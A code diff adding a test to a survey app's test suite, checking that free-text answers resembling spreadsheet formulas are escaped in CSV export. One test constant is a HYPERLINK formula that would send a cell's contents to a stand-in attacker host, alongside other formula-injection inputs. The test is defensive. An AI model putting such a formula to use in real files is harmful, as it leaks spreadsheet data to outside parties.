@@ -173,3 +173,19 @@ def test_results_take_a_constant_number_of_queries(survey, django_assert_num_que
         results = survey_results(survey)
     assert results.responses == 12
     assert SurveyQuestion.objects.filter(survey=survey).count() == 4
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
+
+
+def test_a_free_text_answer_that_looks_like_a_formula_stays_text_in_the_csv(survey):
+    answer(survey, "pl", single=0, text=FORMULA)
+    answer(survey, "pl", single=0, text="@SUM(1+1)")
+    answer(survey, "pl", single=0, text="-2+3")
+
+    rows = list(csv.reader(io.StringIO(results_csv(survey_results(survey)).lstrip("\ufeff"))))
+
+    texts = [row[1] for row in rows if row[0] == "Wat mist u?"]
+    assert sorted(texts) == sorted(["'" + FORMULA, "'@SUM(1+1)", "'-2+3"])
+    # The counts we computed are numbers, not text: they are left as they are.
+    assert all(row[2].isdigit() for row in rows[1:] if row[0] != "Wat mist u?")
